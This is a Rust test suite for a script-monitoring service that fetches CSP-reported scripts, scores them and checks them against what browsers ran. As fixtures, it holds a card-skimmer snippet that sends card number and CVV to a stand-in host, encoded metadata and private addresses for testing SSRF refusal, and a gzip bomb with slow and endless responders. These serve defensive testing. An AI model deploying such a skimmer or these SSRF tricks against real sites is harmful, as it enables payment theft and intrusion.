//! Reported scripts are fetched, scored and versioned, and compared with what browsers ran. Servers on loopback.
#![allow(
    clippy::unwrap_used,
    clippy::print_stderr,
    reason = "helpers of tests; one says that it was skipped"
)]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use crate::support::{Running, wait_for};
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use monitor::AlertKind;
use sha2::{Digest as _, Sha256};

const FAST: &str = "[fetcher]\nallow_private_addresses = true\nhost_pause_millis = 1\nretry_seconds = 1\n";

/// A request's path and headers to an answer: the whole of it.
type Script = dyn Fn(&str, &str) -> Vec<u8> + Send + Sync;

/// A server that answers as a function says, and keeps what it was asked.
struct Server {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start(answer: impl Fn(&str, &str) -> Vec<u8> + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let (theirs, answer): (_, Arc<Script>) = (asked.clone(), Arc::new(answer));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (asked, answer) = (theirs.clone(), answer.clone());
                std::thread::spawn(move || {
                    let mut head = String::new();
                    let mut reader = BufReader::new(&stream);
                    while reader.read_line(&mut head).is_ok_and(|read| read > 2) {}
                    let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
                    let bytes = answer(&path, &head);
                    asked.lock().unwrap().push(head);
                    let _ = (&stream).write_all(&bytes);
                });
            }
        });
        Self { address, asked }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

fn ok(body: &[u8]) -> Vec<u8> {
    answer("200 OK", "Content-Type: text/javascript\r\n", body)
}

fn answer(status: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let length = body.len();
    let head = format!("HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {length}\r\n{headers}\r\n");
    [head.as_bytes(), body].concat()
}

fn report(running: &Running, url: &str) {
    let body = format!(
        r#"{{"csp-report": {{"document-uri": "https://shop.example/pay?cart=7", "effective-directive": "script-src-elem",
            "blocked-uri": "{url}"}}}}"#
    );
    assert_eq!(running.report("shop", &body).status, 204);
}

fn report_hash(running: &Running, url: &str, script: &[u8]) {
    let hash = BASE64_STANDARD.encode(Sha256::digest(script));
    let body = format!(
        r#"[{{"type": "csp-hash", "url": "https://shop.example/pay", "body": {{"subresourceURL": "{url}",
            "hash": "sha256-{hash}", "type": "subresource", "destination": "script"}}}}]"#
    );
    assert_eq!(running.report("shop", &body).status, 204);
}

fn hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn differs(running: &Running) -> usize {
    let events = running.block_on(async {
        let site = running.service.sites().get(&"shop".parse().unwrap()).await.unwrap().unwrap();
        site.read(|reader| reader.events(1, 1000)).await.unwrap()
    });
    events.iter().filter(|event| event.alert == AlertKind::ContentDiffersFromBrowser).count()
}

/// Our own, in the shape of a skimmer and inert: it names no host that is.
const SKIMMER: &[u8] = b"document.querySelector('form').addEventListener('submit', function () {
  var card = document.querySelector('[name=cardnumber]').value, cvv = document.querySelector('[name=cvv]').value;
  new Image().src = 'https://collect.skimmer.invalid/g.gif?d=' + btoa(card + '|' + cvv + '|' + location.host);
});";

const CLEAN: &[u8] = b"function rate(stars) { document.getElementById('stars').textContent = stars; }";

#[test]
fn a_reported_script_is_scored() {
    let server = Server::start(|path, head| match path {
        "/clean.js" if head.contains("if-none-match: \"v1\"") => answer("304 Not Modified", "", b""),
        "/clean.js" => answer("200 OK", "ETag: \"v1\"\r\n", CLEAN),
        "/bad.js" => ok(SKIMMER),
        _ => answer("404 Not Found", "", b"<h1>not here</h1>"),
    });
    let folder = tempfile::tempdir().unwrap();
    let state = folder.path().join("state");
    let running = Running::start(&state, FAST);
    for path in ["/clean.js", "/bad.js", "/gone.js"] {
        report(&running, &server.url(path));
    }
    let resources = running.until("shop", |all| {
        all.len() == 3 && all.iter().filter(|one| !one.versions.is_empty()).count() == 2
    });
    for resource in &resources {
        // A body that the fetcher brought is no sighting.
        assert_eq!(resource.reports, 1, "{}", resource.url);
        let (name, version) = (resource.url.rsplit('/').next().unwrap(), resource.versions.first());
        match name {
            "clean.js" => assert_eq!(version.unwrap().hash, hex(CLEAN)),
            "bad.js" => assert!(resource.conclusion.malicious, "{resource:?}"),
            _ => assert!(version.is_none()),
        }
    }
    wait_for(|| running.counts("shop")["fetches.status"].as_u64());
    running.stop();
    // What was to be fetched is still to be fetched after a restart.
    let running = Running::start(&state, "[fetcher]\nallow_private_addresses = true\n");
    let status: serde_json::Value = serde_json::from_str(&running.get_as_first(&state).body).unwrap();
    assert_eq!(status["scripts_fetched"], 3);
    running.stop();
    let agent =
        server.asked().iter().all(|head| head.to_ascii_lowercase().contains("user-agent: pagewarden/"));
    assert!(agent, "{:?}", server.asked());
}

#[test]
fn a_private_host_is_fetched_and_what_it_redirects_to_is_not() {
    let inside = Server::start(|_, _| ok(CLEAN));
    let elsewhere = format!("http://localhost:{}/inside.js", inside.address.port());
    let target = format!("Location: {elsewhere}\r\n");
    let server = Server::start(move |path, _| match path {
        "/clean.js" => ok(CLEAN),
        _ => answer("302 Found", &target, b""),
    });
    let folder = tempfile::tempdir().unwrap();
    let options = "[fetcher]\nprivate_hosts = ['127.0.0.1']\nhost_pause_millis = 1\n";
    let running = Running::start(&folder.path().join("state"), options);
    for url in [server.url("/clean.js"), server.url("/moved.js"), elsewhere] {
        report(&running, &url);
    }
    let refused = || running.counts("shop")["fetches.forbidden_address"].as_u64().filter(|count| *count == 2);
    wait_for(refused);
    let resources = running.until("shop", |all| all.iter().any(|one| !one.versions.is_empty()));
    let fetched: Vec<_> =
        resources.iter().filter(|one| !one.versions.is_empty()).map(|one| &one.url).collect();
    assert_eq!(fetched, [&server.url("/clean.js")]);
    assert!(inside.asked().is_empty(), "{:?}", inside.asked());
    running.stop();
}

#[test]
fn cookies_of_what_was_fetched_are_kept_without_their_values() {
    let server = Server::start(|path, _| match path {
        "/pay" => answer(
            "200 OK",
            "Set-Cookie: sid=s3cret; Path=/; HttpOnly\r\nContent-Type: text/html\r\n",
            b"<p>",
        ),
        _ => answer(
            "200 OK",
            "Set-Cookie: uid=s3cret; Max-Age=60; SameSite=Lax\r\nSet-Cookie: b=s3cret\r\n",
            CLEAN,
        ),
    });
    let folder = tempfile::tempdir().unwrap();
    let pages = format!("[[headers.pages]]\nsite = 'shop'\nurl = '{}'\n", server.url("/pay"));
    let state = folder.path().join("state");
    let running = Running::start(&state, &format!("{FAST}{pages}"));
    report(&running, &server.url("/a.js"));
    let cookies = wait_for(|| {
        let path = "/client/v4/zones/shop/page_shield/cookies?order_by=first_seen_at";
        let answer: serde_json::Value = serde_json::from_str(&running.get(path).body).ok()?;
        Some(answer["result"].clone()).filter(|all| all.as_array().is_some_and(|all| all.len() == 3))
    });
    assert!(!cookies.to_string().contains("s3cret"), "{cookies}");
    let named = |name: &str| cookies.as_array().unwrap().iter().find(|one| one["name"] == name).unwrap();
    // The page of the report is of another site; the watched page sets its own.
    assert_eq!((&named("uid")["type"], &named("uid")["max_age_attribute"]), (&"unknown".into(), &60.into()));
    assert_eq!(named("uid")["page_urls"], serde_json::json!(["https://shop.example/pay"]));
    assert_eq!(
        (&named("sid")["type"], &named("sid")["http_only_attribute"]),
        (&"first_party".into(), &true.into())
    );
    running.stop();
}

#[test]
fn what_browsers_ran_and_nobody_else_gets_is_told_within_two_reports() {
    let server = Server::start(|_, head| {
        let is_browser = head.contains("Mozilla/5.0") && head.contains("https://shop.example/pay");
        ok(if is_browser { SKIMMER } else { CLEAN })
    });
    let folder = tempfile::tempdir().unwrap();
    let running = Running::start(&folder.path().join("state"), FAST);
    let url = server.url("/lib.js");
    report_hash(&running, &url, SKIMMER);
    running.until("shop", |all| all.first().is_some_and(|one| !one.versions.is_empty()));
    assert_eq!(differs(&running), 0); // one report may be anything
    report_hash(&running, &url, SKIMMER);
    wait_for(|| (differs(&running) > 0).then_some(()));
    let found = running.until("shop", |all| !all.is_empty() && all[0].versions[0].hash == hex(SKIMMER));
    assert!(found[0].conclusion.malicious, "{found:?}");
    // Told once.
    report_hash(&running, &url, SKIMMER);
    report_hash(&running, &url, SKIMMER);
    running.until("shop", |all| !all.is_empty() && all[0].reports == 4);
    assert_eq!(differs(&running), 1);
    running.stop();
}

#[test]
fn what_browsers_ran_and_everybody_gets_is_not_told() {
    let server = Server::start(|_, _| ok(CLEAN));
    let folder = tempfile::tempdir().unwrap();
    let running = Running::start(&folder.path().join("state"), FAST);
    let url = server.url("/lib.js");
    for _ in 0..3 {
        report_hash(&running, &url, CLEAN);
    }
    running.until("shop", |all| all.first().is_some_and(|one| one.reports == 3 && !one.versions.is_empty()));
    assert_eq!(differs(&running), 0);
    running.stop();
    assert!(server.asked().iter().all(|head| !head.contains("Mozilla")));
}

#[test]
fn errors_and_empty_bodies_clear_nothing() {
    let outcomes = [
        ("empty", ok(b"  \n")),
        ("status", answer("503 Service Unavailable", "", b"down")),
        ("page", answer("200 OK", "Content-Type: text/html\r\n", b"<!doctype html><p>Sorry</p>")),
        ("coding", answer("200 OK", "Content-Encoding: zzz\r\n", b"go()")),
        ("damaged", answer("200 OK", "Content-Encoding: gzip\r\n", b"\x1f\x8bnonsense")),
    ];
    // Each outcome has an address of its own, so that all wait for their next fetch at once.
    let is_broken = Arc::new(AtomicBool::new(false));
    let (theirs, broken) = (is_broken.clone(), outcomes.clone());
    let server = Server::start(move |path, _| {
        let broken = broken.iter().find(|(outcome, _)| path == format!("/{outcome}.js"));
        let broken = broken.filter(|_| theirs.load(Ordering::SeqCst));
        broken.map_or_else(|| ok(SKIMMER), |(_, bytes)| bytes.clone())
    });
    let folder = tempfile::tempdir().unwrap();
    let config = format!("{FAST}every_seconds = 1\n");
    let running = Running::start(&folder.path().join("state"), &config);
    for (outcome, _) in &outcomes {
        report(&running, &server.url(&format!("/{outcome}.js")));
    }
    let count = outcomes.len();
    running.until("shop", |all| all.iter().filter(|one| one.conclusion.malicious).count() == count);
    is_broken.store(true, Ordering::SeqCst);
    for (outcome, _) in &outcomes {
        wait_for(|| running.counts("shop")[format!("fetches.{outcome}")].as_u64());
    }
    for resource in running.resources("shop") {
        assert!(resource.conclusion.malicious, "{}", resource.url);
        assert_eq!(resource.versions.len(), 1, "{}", resource.url);
    }
    running.stop();
}

#[test]
fn no_address_inside_is_asked() {
    let server = Server::start(|_, _| ok(CLEAN));
    let port = server.address.port();
    let folder = tempfile::tempdir().unwrap();
    let running = Running::start(&folder.path().join("state"), "[fetcher]\nhost_pause_millis = 1\n");
    let hosts = [
        "127.0.0.1",
        "localhost",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0177.0.0.1",
        "0x7f.1",
        "[::1]",
        "0.0.0.0",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b::127.0.0.1]",
        "[2002:7f00:1::]",
        "127.1",
        "0300.0250.0.1",
        "10.0.0.7",
        "100.64.0.1",
        "168.63.129.16",
        "[fd00::1]",
    ];
    // Each has a path of its own, so that spellings of one address are not one script.
    for (number, host) in hosts.iter().enumerate() {
        report(&running, &format!("http://{host}:{port}/lib-{number}.js"));
    }
    for (number, host) in
        ["169.254.169.254", "2852039166", "0xa9fea9fe", "[::ffff:a9fe:a9fe]"].iter().enumerate()
    {
        report(&running, &format!("http://{host}/latest/meta-data/x-{number}.js"));
    }
    wait_for(|| {
        let counts = running.counts("shop");
        (counts["fetches.forbidden_address"].as_u64()? >= hosts.len() as u64 + 4).then_some(())
    });
    let counts = running.counts("shop");
    let fetches = |counts: &serde_json::Value| {
        counts.as_object().unwrap().keys().filter(|name| name.starts_with("fetches.")).count()
    };
    assert_eq!(fetches(&counts), 1, "{counts}");
    assert_eq!(running.counts("shop")["fetches.body"], serde_json::Value::Null);
    running.stop();
    assert!(server.asked().is_empty(), "{:?}", server.asked());
}

#[test]
fn urls_that_differ_in_volatile_parts_are_fetched_as_one() {
    let server = Server::start(|_, _| ok(CLEAN));
    let folder = tempfile::tempdir().unwrap();
    let running = Running::start(&folder.path().join("state"), FAST);
    for number in 0..30 {
        report(&running, &server.url(&format!("/s.js?cb=17640000{number:02}")));
    }
    report(&running, &server.url("/other.js"));
    running.until("shop", |all| all.len() == 2 && all.iter().all(|one| !one.versions.is_empty()));
    for number in 30..60 {
        report(&running, &server.url(&format!("/s.js?cb=17640000{number:02}")));
    }
    running.until("shop", |all| all.iter().any(|one| one.reports == 60));
    running.stop();
    let asked = server.asked();
    let count = asked.iter().filter(|head| head.starts_with("GET /s.js")).count();
    // Once, and once more if others came while it was asked.
    assert!((1..=2).contains(&count), "{asked:?}");
}

#[test]
fn a_new_url_of_a_known_script_is_asked_for_when_its_time_has_come() {
    let server = Server::start(|path, _| ok(if path.contains("aaaa") { CLEAN } else { SKIMMER }));
    let folder = tempfile::tempdir().unwrap();
    let config = format!("{FAST}variant_seconds = 1\n");
    let running = Running::start(&folder.path().join("state"), &config);
    report(&running, &server.url("/app.1f3a9caaaa1b2c3d.js"));
    running.until("shop", |all| all.first().is_some_and(|one| !one.versions.is_empty()));
    report(&running, &server.url("/app.7e2b4d90cc1b2c3d.js"));
    running.until("shop", |all| all.iter().any(|one| one.conclusion.malicious));
    running.stop();
}

#[test]
fn hostile_answers_are_bounded() {
    use std::io::Read as _;
    let bomb = {
        let mut packed =
            flate2::read::GzEncoder::new(std::io::repeat(b' ').take(8 << 20), flate2::Compression::best());
        let mut bytes = Vec::new();
        packed.read_to_end(&mut bytes).unwrap();
        bytes
    };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let bomb = bomb.clone();
            std::thread::spawn(move || {
                let mut head = String::new();
                let mut reader = BufReader::new(&stream);
                while reader.read_line(&mut head).is_ok_and(|read| read > 2) {}
                let mut out = &stream;
                let path = head.split(' ').nth(1).unwrap_or_default();
                let start = b"HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nConnection: close\r\n";
                let mut send = |bytes: &[u8]| out.write_all(bytes).is_ok();
                if path.contains("bomb") {
                    send(&answer("200 OK", "Content-Encoding: gzip\r\n", &bomb));
                } else if path.contains("headers") {
                    send(start);
                    let line = format!("X-Long: {}\r\n", "x".repeat(1_000));
                    // Far more than 64 KiB of them.
                    for _ in 0..1_000 {
                        if !send(line.as_bytes()) {
                            return;
                        }
                    }
                    send(b"\r\nalert()");
                } else if path.contains("drip") {
                    send(start);
                    send(b"\r\n");
                    while send(b"a") {
                        std::thread::sleep(std::time::Duration::from_millis(50));
                    }
                } else {
                    send(start);
                    send(b"\r\n");
                    while send(&[b'a'; 4096]) {}
                }
            });
        }
    });
    let folder = tempfile::tempdir().unwrap();
    let limits =
        "max_bytes = 1048576\nmax_unpacked_bytes = 4194304\ntimeout_seconds = 2\nevery_seconds = 3600\n";
    let config = format!("{FAST}{limits}").replace("retry_seconds = 1\n", "retry_seconds = 3600\n");
    let running = Running::start(&folder.path().join("state"), &config);
    for name in ["bomb", "headers", "drip", "endless"] {
        report(&running, &format!("http://{address}/{name}.js"));
    }
    let counts = wait_for(|| {
        let counts = running.counts("shop");
        let failed = ["too_large", "timed_out", "not_reached"];
        let all: u64 = failed.iter().filter_map(|one| counts[format!("fetches.{one}")].as_u64()).sum();
        (all >= 4).then_some(counts)
    });
    assert_eq!(counts["fetches.body"], serde_json::Value::Null, "{counts}");
    assert!(
        counts["fetches.too_large"].as_u64() >= Some(2) && counts["fetches.timed_out"].as_u64() >= Some(1),
        "{counts}"
    );
    assert!(running.resources("shop").iter().all(|one| one.versions.is_empty()));
    running.stop();
}
